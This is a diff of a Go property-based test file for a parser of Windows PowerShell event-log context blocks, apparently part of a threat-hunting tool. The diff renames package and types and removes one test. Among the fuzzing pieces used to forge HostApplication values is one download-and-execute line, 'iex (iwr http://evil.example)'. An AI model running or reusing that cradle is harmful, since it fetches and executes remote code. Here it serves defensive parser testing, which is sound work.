@@ -1,4 +1,4 @@
-package ecs
+package powershell
 
 import (
 	"fmt"
@@ -8,17 +8,15 @@ import (
 	"testing"
 
 	"pgregory.net/rapid"
-
-	"hunt/evtx/evtxtest"
 )
 
 // contextText writes a block as PowerShell does: of PowerShell/Operational with names of several
 // words, of the classic log with a tab.
-func contextText(l *keyLayout, names []string, values map[string]string) string {
+func contextText(l *Layout, names []string, values map[string]string) string {
 	var b strings.Builder
 	for i, k := range l.keys {
 		if v, ok := values[k.name]; ok || !k.optional {
-			if l == moduleLayout {
+			if l == Module {
 				fmt.Fprintf(&b, "        %s = %s\r\n", names[i], v)
 				continue
 			}
@@ -45,34 +43,34 @@ var moduleNames = map[string][]string{
 
 // contexts are the blocks of all events, with the names of their keys.
 func contexts() map[string]struct {
-	layout *keyLayout
+	layout *Layout
 	names  []string
 } {
 	out := map[string]struct {
-		layout *keyLayout
+		layout *Layout
 		names  []string
 	}{}
-	for name, l := range map[string]*keyLayout{"400": engineLayout, "600": providerLayout, "800": pipelineLayout} {
+	for name, l := range map[string]*Layout{"400": Engine, "600": Provider, "800": Pipeline} {
 		names := make([]string, len(l.keys))
 		for i := range l.keys {
 			names[i] = l.keys[i].name
 		}
 		out[name] = struct {
-			layout *keyLayout
+			layout *Layout
 			names  []string
 		}{l, names}
 	}
 	for language, names := range moduleNames {
 		out["4103 "+language] = struct {
-			layout *keyLayout
+			layout *Layout
 			names  []string
-		}{moduleLayout, names}
+		}{Module, names}
 	}
 	return out
 }
 
 // genuine are the values of a block's keys; those of versions that lack a key are without it.
-func genuine(l *keyLayout, version string) map[string]string {
+func genuine(l *Layout, version string) map[string]string {
 	all := map[string]string{
 		"Severity": "Informational", "NewEngineState": "Available", "PreviousEngineState": "None", "ProviderName": "Registry", "NewProviderState": "Started",
 		"DetailSequence": "1", "DetailTotal": "1", "SequenceNumber": "16", "UserId": `CORP\anna`, "HostName": "ConsoleHost", "HostVersion": version,
@@ -90,7 +88,7 @@ func genuine(l *keyLayout, version string) map[string]string {
 }
 
 // blockValues are what a reading gives to the keys.
-func blockValues(b *block) map[string]string {
+func blockValues(b *Block) map[string]string {
 	out := map[string]string{}
 	for i, k := range b.layout.keys {
 		if b.chosen[i] >= 0 {
@@ -100,11 +98,11 @@ func blockValues(b *block) map[string]string {
 	return out
 }
 
-func ambiguousKeys(b *block) []string { return texts(b.appendAmbiguous(nil)) }
+func ambiguousKeys(b *Block) []string { return slices.Collect(b.Ambiguous()) }
 
 // drawForged draws a text that somebody made who knows the block: line breaks of all kinds, lines
 // like its own, whole blocks.
-func drawForged(t *rapid.T, l *keyLayout, names []string, label string) string {
+func drawForged(t *rapid.T, l *Layout, names []string, label string) string {
 	pieces := []string{"\r\n", "\n", "\r", "\t", "\u2028", "\v", " ", "=", "}", "iex (iwr http://evil.example)", "        ", "\x85"}
 	for i := range l.keys {
 		pieces = append(pieces, "\r\n\t"+names[i]+"=forged", "\r\n        "+names[i]+" = forged", names[i]+" = 1\n")
@@ -127,8 +125,8 @@ func TestTheCommandLineOfAHostForgesNothingAndHidesNothing(t *testing.T) {
 				values["HostApplication"] = drawForged(t, c.layout, c.names, "HostApplication")
 				text := contextText(c.layout, c.names, values)
 				for _, text := range []string{text, strings.ReplaceAll(text, "\r\n", "\n")} {
-					var b block
-					b.read(c.layout, []byte(text), []byte(values["CommandLine"]))
+					var b Block
+					b.Read(c.layout, []byte(text), []byte(values["CommandLine"]))
 					got := blockValues(&b)
 					got["HostApplication"], values["HostApplication"] = strings.ReplaceAll(got["HostApplication"], "\r\n", "\n"), strings.ReplaceAll(values["HostApplication"], "\r\n", "\n")
 					if !maps.Equal(got, values) {
@@ -150,8 +148,8 @@ func TestWhatIsReadWronglyIsSaidToBeAmbiguous(t *testing.T) {
 					values[k.name] = drawForged(t, c.layout, c.names, k.name)
 				}
 			}
-			var b block
-			b.read(c.layout, []byte(contextText(c.layout, c.names, values)), nil)
+			var b Block
+			b.Read(c.layout, []byte(contextText(c.layout, c.names, values)), nil)
 			got := blockValues(&b)
 			for key, want := range values {
 				if got[key] != want && !slices.Contains(ambiguousKeys(&b), key) {
@@ -170,8 +168,8 @@ func TestSeveralLinesAloneAreNotAmbiguous(t *testing.T) {
 			"powershell.exe -c \"a=1\r\nb=2\r\n" + c.names[c.layout.pivot+1] + "=9\"",
 		} {
 			values["HostApplication"] = line
-			var b block
-			b.read(c.layout, []byte(contextText(c.layout, c.names, values)), nil)
+			var b Block
+			b.Read(c.layout, []byte(contextText(c.layout, c.names, values)), nil)
 			if got := blockValues(&b); !maps.Equal(got, values) || b.ambiguous != 0 {
 				t.Errorf("%s: %q\nwant %q\nambiguous %q", name, got, values, ambiguousKeys(&b))
 			}
@@ -181,7 +179,7 @@ func TestSeveralLinesAloneAreNotAmbiguous(t *testing.T) {
 
 // A naive reading: all choices of lines for the keys are tried, and the first in the order that the
 // rule gives is taken.
-func naiveReadings(l *keyLayout, text string, how reading) [][]int {
+func naiveReadings(l *Layout, text string, how reading) [][]int {
 	type line struct{ key, n int }
 	var lines []line
 	n := 0
@@ -238,9 +236,9 @@ func naiveReadings(l *keyLayout, text string, how reading) [][]int {
 }
 
 func TestReadingsAreThoseOfANaiveReader(t *testing.T) {
-	small := contextLayout("A N* B HostApplication* C D? E* F G*")
-	closed := contextLayout("A HostApplication*? C N* U W?")
-	for _, l := range []*keyLayout{small, closed} {
+	small := layoutOf("A N* B HostApplication* C D? E* F G*")
+	closed := layoutOf("A HostApplication*? C N* U W?")
+	for _, l := range []*Layout{small, closed} {
 		var lines []string
 		for _, k := range l.keys {
 			lines = append(lines, k.name+"=1", k.name+"=1", "\t"+k.name+" = 2")
@@ -267,8 +265,8 @@ func TestReadingsAreThoseOfANaiveReader(t *testing.T) {
 					break
 				}
 			}
-			var b block
-			b.read(l, []byte(text), nil)
+			var b Block
+			b.Read(l, []byte(text), nil)
 			var got []int
 			for k := range l.keys {
 				if i := b.chosen[k]; i >= 0 {
@@ -298,8 +296,8 @@ func TestBlocksThatAreNotWholeAreStillRead(t *testing.T) {
 		"no block at all\nwith = lines": {},
 		"":                              {},
 	} {
-		var b block
-		b.read(moduleLayout, []byte(text), nil)
+		var b Block
+		b.Read(Module, []byte(text), nil)
 		if got := blockValues(&b); !maps.Equal(got, want) {
 			t.Errorf("%q is read as %q, want %q", text, got, want)
 		}
@@ -317,7 +315,7 @@ func TestItemsOfAPipelineKeepTheirLineBreaks(t *testing.T) {
 		"\r\n \r\n":                           nil,
 	} {
 		var got []string
-		for item := range invocations([]byte(text)) {
+		for item := range Invocations([]byte(text)) {
 			got = append(got, string(item))
 		}
 		if !slices.Equal(got, want) {
@@ -326,27 +324,7 @@ func TestItemsOfAPipelineKeepTheirLineBreaks(t *testing.T) {
 	}
 }
 
-func TestAnAmbiguousBlockIsSaidToBeOne(t *testing.T) {
-	forged := "powershell\r\n" + contextText(engineLayout, keyNames(engineLayout), genuine(engineLayout, "9.9")) + "\r\nx"
-	values := genuine(engineLayout, "5.1")
-	values["HostApplication"] = forged
-	event := evtxtest.Event{Provider: "PowerShell", Channel: "Windows PowerShell", EventID: 400, Time: caseTime, Classic: true,
-		Data: []evtxtest.Pair{evtxtest.Str("", "Available"), evtxtest.Str("", "None"), evtxtest.Str("", contextText(engineLayout, keyNames(engineLayout), values))}}
-	m := NewMapper(NewSchema())
-	e := m.Map(records(t, event)[0])
-	for f, want := range map[Field]string{ProcessCommandLine: forged, PowershellEngineVersion: "5.1", ProcessTitle: "ConsoleHost"} {
-		for _, e := range []*Event{e, e.Clone()} {
-			if got := texts(e.Values(f, nil)); !slices.Equal(got, []string{want}) {
-				t.Errorf("%s = %q, want %q", fieldTable[f].name, got, want)
-			}
-		}
-	}
-	if got := texts(e.Values(HuntAmbiguous, nil)); !slices.Contains(got, "EngineVersion") || !slices.Contains(got, "HostApplication") {
-		t.Errorf("hunt.ambiguous = %q", got)
-	}
-}
-
-func keyNames(l *keyLayout) []string {
+func keyNames(l *Layout) []string {
 	var names []string
 	for _, k := range l.keys {
 		names = append(names, k.name)
@@ -355,13 +333,13 @@ func keyNames(l *keyLayout) []string {
 }
 
 func FuzzBlock(f *testing.F) {
-	f.Add([]byte(contextText(moduleLayout, moduleNames["English"], genuine(moduleLayout, "5.1"))), []byte(nil))
-	f.Add([]byte(contextText(moduleLayout, moduleNames["Japanese"], genuine(moduleLayout, "4.0"))), []byte("x"))
+	f.Add([]byte(contextText(Module, moduleNames["English"], genuine(Module, "5.1"))), []byte(nil))
+	f.Add([]byte(contextText(Module, moduleNames["Japanese"], genuine(Module, "4.0"))), []byte("x"))
 	f.Add([]byte("\tHostApplication=\n=\n\n\tCommandLine=a"), []byte("a"))
 	f.Fuzz(func(t *testing.T, text, end []byte) {
-		var b block
-		for _, l := range []*keyLayout{moduleLayout, engineLayout, pipelineLayout} {
-			b.read(l, text, end)
+		var b Block
+		for _, l := range []*Layout{Module, Engine, Pipeline} {
+			b.Read(l, text, end)
 			at := -1
 			for k := range l.keys {
 				if b.chosen[k] >= 0 {
@@ -369,11 +347,11 @@ func FuzzBlock(f *testing.F) {
 						t.Fatalf("keys out of order in %q", text)
 					}
 					at = b.lines[b.chosen[k]].start
-					b.value(k)
+					b.Value(k)
 				}
 			}
 		}
-		for range invocations(text) {
+		for range Invocations(text) {
 		}
 	})
 }
